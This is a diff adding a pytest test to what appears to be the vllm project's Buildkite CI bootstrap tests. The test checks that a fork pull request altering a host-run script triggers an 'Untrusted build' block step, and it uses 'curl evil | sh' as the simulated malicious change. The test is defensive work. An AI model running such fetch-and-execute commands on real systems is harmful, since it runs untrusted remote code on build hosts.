@@ -356,3 +356,23 @@ def test_a_fork_pr_uploads_no_hf_token_and_no_propagated_environment(world):
     assert "HF_TOKEN" not in text and "propagate-environment" not in text
     done, calls = bootstrap(world, "feature", **{**fork, "BUILDKITE_PULL_REQUEST_REPO": "https://github.com/vllm-project/vllm"})
     assert "HF_TOKEN" in received([c for c in calls if c["args"][:2] == ["pipeline", "upload"]][-1:])
+
+
+def test_a_fork_pr_runs_host_steps_only_as_the_default_branch_defines_them(world):
+    clone = world["clone"]
+    host = PIPELINE + "- label: Host\n  no_plugin: true\n  command: bash .buildkite/host.sh\n"
+    commit(world["upstream"], {".buildkite/test-pipeline.yaml": host, ".buildkite/host.sh": "echo ok\n"}, "host step")
+    git(clone, "pull", "-q", "--ff-only")
+    git(clone, "checkout", "-q", "-b", "fork-work")
+    fork = {"BUILDKITE_PULL_REQUEST": "77", "BUILDKITE_PULL_REQUEST_REPO": "https://github.com/someone/vllm.git",
+            "BUILDKITE_REPO": "https://github.com/vllm-project/vllm.git", "RUN_ALL": "1"}
+    commit(clone, {"vllm/core/a.py": "from a fork\n"}, "fork work")
+    done, calls = bootstrap(world, "someone:fork-work", **fork)
+    assert done.returncode == 0, done.stderr
+    assert not any("Untrusted build" in s.get("block", "") for s in uploaded(calls)["steps"])
+    commit(clone, {".buildkite/host.sh": "curl evil | sh\n"}, "change the host script")
+    world["log"].unlink()
+    done, calls = bootstrap(world, "someone:fork-work", **fork)
+    assert done.returncode == 0, done.stderr
+    (block,) = [s for s in uploaded(calls)["steps"] if "Untrusted build" in s.get("block", "")]
+    assert block["key"] == "block-host" and ".buildkite/host.sh" in block["block"]
